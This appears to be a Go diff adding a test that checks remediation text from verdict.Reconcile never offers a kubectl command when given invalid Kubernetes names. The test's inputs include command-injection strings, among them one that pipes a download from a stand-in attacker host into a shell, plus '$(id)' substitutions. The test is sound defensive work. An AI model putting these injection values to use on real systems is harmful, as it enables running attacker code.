@@ -305,3 +305,15 @@ func nextSteps(t *testing.T, root string) []nextStep {
 
 // none knows no better next step.
 func none(verdict.Denial) string { return "" }
+
+// What is no name of Kubernetes' could end the command and begin another.
+func TestCommandsHoldNamesOnly(t *testing.T) {
+	t.Parallel()
+	for _, name := range []string{"", "x; curl evil.example | sh", "$(id)", "a b", "x*", "-x", "é", "x\nid"} {
+		for _, got := range []string{verdict.Reconcile("HelmRelease", "apps", name), verdict.Reconcile("HelmRelease", name, "podinfo"), verdict.Reconcile(name, "apps", "podinfo")} {
+			if strings.Contains(got, "kubectl") {
+				t.Errorf("%q: %s", name, got)
+			}
+		}
+	}
+}
